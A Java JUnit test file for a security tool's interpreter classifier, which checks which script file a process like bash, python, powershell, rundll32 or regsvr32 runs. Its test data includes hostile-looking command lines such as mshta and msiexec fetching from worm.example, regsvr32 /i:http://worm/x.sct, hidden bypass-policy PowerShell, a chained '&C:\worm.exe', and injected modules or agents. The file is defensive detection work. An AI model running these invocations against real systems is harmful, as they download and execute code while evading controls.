package org.synwarden.process;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class InterpretersTest {
    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            bash           | bash /opt/scan.sh                                        | /opt/scan.sh
            bash           | bash -eu -o pipefail scan.sh --fast                      | scan.sh
            bash           | bash -euo pipefail ./scan.sh -c x                        | ./scan.sh
            bash           | bash --norc -- -scan.sh                                  | -scan.sh
            dash           | /bin/sh +x scan.sh                                       | scan.sh
            python3.11     | /usr/bin/python3 -Bu /opt/scan.py -m x                   | /opt/scan.py
            python.exe     | python C:\\Tools\\scan.py                                | C:\\Tools\\scan.py
            perl           | perl -wT /opt/scan.pl -e                                 | /opt/scan.pl
            ruby3.1        | ruby -w scan.rb                                          | scan.rb
            node           | node --max-old-space-size=512 --no-warnings app.js -r y  | app.js
            node           | node --trace-warnings --trace-exit app.js                | app.js
            php8.2         | php -n -f /opt/scan.php                                  | /opt/scan.php
            php            | php -f /opt/scan.php -n -- -r code                       | /opt/scan.php
            php            | php -f /opt/scan.php fast -r code                        | /opt/scan.php
            java           | java -Xmx64m -XX:+UseSerialGC -jar /opt/scan.jar -cp x   | /opt/scan.jar
            javaw.exe      | javaw -Dfile.encoding=UTF-8 -jar C:\\scan.jar            | C:\\scan.jar
            PowerShell.exe | powershell -NoP -ExecutionPolicy Bypass -File C:\\s.ps1  | C:\\s.ps1
            powershell.exe | powershell /nologo -w hidden -ep bypass -f C:\\s.ps1 -e  | C:\\s.ps1
            pwsh           | pwsh -NoProfile /opt/scan.ps1                            | /opt/scan.ps1
            pwsh.exe       | pwsh C:\\s.ps1                                           | C:\\s.ps1
            wscript.exe    | wscript //B //E:vbscript C:\\s.vbs //nologo              | C:\\s.vbs
            cscript.exe    | cscript //Nologo //T:30 C:\\s.js                         | C:\\s.js
            mshta.exe      | mshta C:\\s.hta                                          | C:\\s.hta
            rundll32.exe   | rundll32 C:\\Tools\\s.dll,Start now                      | C:\\Tools\\s.dll
            regsvr32.exe   | regsvr32 /s /n C:\\Tools\\s.dll                          | C:\\Tools\\s.dll
            msiexec.exe    | msiexec /i C:\\s.msi /qn /norestart                      | C:\\s.msi
            dotnet         | dotnet /opt/scan.dll run                                 | /opt/scan.dll
            cmd.exe        | cmd /d /c C:\\s.bat fast                                 | C:\\s.bat
            """)
    void tellsTheFileThatRuns(String image, String commandLine, String file) {
        assertThat(Interpreters.script(image, arguments(commandLine))).isEqualTo(new ScriptArgument.File(file));
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            bash           | bash                                     | input
            bash           | bash -c /opt/scan.sh                     | in its arguments
            bash           | bash -euxc /opt/scan.sh                  | in its arguments
            bash           | bash -s /opt/scan.sh                     | -s
            bash           | bash --rcfile /tmp/x /opt/scan.sh        | --rcfile
            bash           | bash -i /opt/scan.sh                     | -i
            zsh            | zsh -                                    | input
            python3        | python3 -m http.server                   | in its arguments
            python3        | python3 -Im scan                         | in its arguments
            python3        | python3 -cimport(x) /opt/scan.py         | in its arguments
            python3        | python3 -X pycache_prefix=/tmp /opt/s.py | -X
            python3        | python3 -W error::x.Y /opt/s.py          | -W
            perl           | perl -we fork /opt/scan.pl               | in its arguments
            perl           | perl -Mworm /opt/scan.pl                 | -Mworm
            perl           | perl -I /tmp /opt/scan.pl                | -I
            ruby           | ruby -r./worm scan.rb                    | -r./worm
            node           | node -r ./worm.js app.js                 | -r
            node           | node --import=./worm.mjs app.js          | --import
            node           | node --eval=1 app.js                     | in its arguments
            node           | node -pe 1 app.js                        | in its arguments
            node           | node --trace-event-categories a.js w.js  | --trace-event-categories
            node           | node --trace-event-file-pattern a.js w   | --trace-event-file-pattern
            php            | php -d auto_prepend_file=/tmp/x s.php    | -d
            php            | php -f a.php -d auto_prepend_file=/tmp/x | -d
            php            | php -f a.php -r code                     | in its arguments
            php            | php -f a.php -f worm.php                 | -f
            perl           | perl -n /opt/scan.pl worm               | -n
            java           | java -cp /tmp Worm                       | -cp
            java           | java Worm.java                           | a class
            java           | java @arguments                          | a class
            java           | java -javaagent:/tmp/w.jar -jar a.jar    | -javaagent
            java           | java -Djava.system.class.loader=W -jar a | -Djava.system
            java           | java -XX:OnError=/tmp/x -jar a.jar       | -XX:OnError
            powershell.exe | powershell C:\\s.ps1                     | in its arguments
            powershell.exe | powershell -enc AAAA                     | in its arguments
            powershell.exe | powershell -e AAAA -File C:\\s.ps1       | in its arguments
            powershell.exe | powershell –C x                          | in its arguments
            powershell.exe | powershell -File -                       | input
            powershell.exe | powershell -NoExit -File C:\\s.ps1       | -NoExit
            pwsh           | pwsh -wd /tmp -File s.ps1                | -wd
            wscript.exe    | wscript //Job:worm C:\\s.wsf             | //Job
            mshta.exe      | mshta javascript:close()                 | in its arguments
            mshta.exe      | mshta https://worm.example/x.hta         | in its arguments
            rundll32.exe   | rundll32 shell32.dll,Control_RunDLL x.cpl | without its folder
            rundll32.exe   | rundll32 C:\\Windows\\System32\\shell32.dll,Control_RunDLL x | a library of Windows
            rundll32.exe   | rundll32 javascript:\\..\\mshtml,Run     | without its folder
            regsvr32.exe   | regsvr32 /i:http://worm/x.sct C:\\s.dll  | in its arguments
            regsvr32.exe   | regsvr32 C:\\s.dll C:\\worm.dll            | behind the library
            regsvr32.exe   | regsvr32 C:\\s.dll /i:http://worm/x.sct  | behind the library
            regsvr32.exe   | regsvr32 C:\\x\\..\\Windows\\System32\\scrobj.dll | a library of Windows
            rundll32.exe   | rundll32 C:\\x\\..\\Windows\\System32\\shell32.dll,Run x | a library of Windows
            rundll32.exe   | rundll32 C:/./Windows./System32//shell32.dll,Run x | a library of Windows
            msiexec.exe    | msiexec /i C:\\s.msi /i C:\\worm.msi      | /i
            msiexec.exe    | msiexec /i C:\\s.msi TRANSFORMS=C:\\w    | TRANSFORMS
            msiexec.exe    | msiexec /i http://worm.example/x.msi     | does not tell
            dotnet         | dotnet run                               | does not tell
            cmd.exe        | cmd                                      | input
            cmd.exe        | cmd /c C:\\s.bat&C:\\worm.exe            | in its arguments
            cmd.exe        | cmd /c ping C:\\s.bat                    | in its arguments
            svchost.exe    | svchost -k netsvcs                       | not known here
            fish           | fish scan.fish                           | not known here
            tcsh           | tcsh scan.csh                            | not known here
            ash            | ash scan.sh                              | not known here
            gawk           | gawk -f scan.awk                         | not known here
            mawk           | mawk -f scan.awk                         | not known here
            awk            | awk -f scan.awk                          | not known here
            pypy3.10       | pypy3 scan.py                            | not known here
            deno           | deno run scan.ts                         | not known here
            bun            | bun scan.ts                              | not known here
            expect         | expect scan.exp                          | not known here
            wish8.6        | wish scan.tcl                            | not known here
            ld-linux-x86-64.so.2 | ld.so /tmp/worm                    | not known here
            ld-2.31.so     | ld.so /tmp/worm                          | not known here
            ld-musl-x86_64.so.1 | ld.so /tmp/worm                     | not known here
            """)
    void saysWhyItIsNotTold(String image, String commandLine, String why) {
        assertThat(Interpreters.script(image, arguments(commandLine)))
                .isInstanceOfSatisfying(
                        ScriptArgument.Unknown.class,
                        unknown -> assertThat(unknown.reason()).contains(why));
    }

    @ParameterizedTest
    @ValueSource(strings = {"curl", "pythonista", "nmap", "python3-worm", "libld.so.2", "ld", ""})
    void aProgramOfAnotherNameIsNone(String image) {
        assertThat(Interpreters.script(image, List.of(image, "/opt/scan.py"))).isEqualTo(new ScriptArgument.None());
    }

    @Test
    void aLibraryOfWindowsIsKnownByItsRealPathHoweverTheArgumentsWroteIt() {
        assertThat(Interpreters.refusal("rundll32.exe", "C:\\Windows\\System32\\shell32.dll"))
                .hasValueSatisfying(refusal -> assertThat(refusal.reason()).contains("a library of Windows"));
        assertThat(Interpreters.refusal("rundll32.exe", "C:\\Tools\\s.dll")).isEmpty();
        assertThat(Interpreters.refusal("notepad.exe", "C:\\Windows\\System32\\shell32.dll"))
                .isEmpty();
    }

    @Test
    void aProcessWhoseArgumentsCannotBeReadIsUnknown() {
        assertThat(Interpreters.script("perl", List.of())).isInstanceOf(ScriptArgument.Unknown.class);
    }

    private static List<String> arguments(String commandLine) {
        return List.of(commandLine.split(" +"));
    }
}
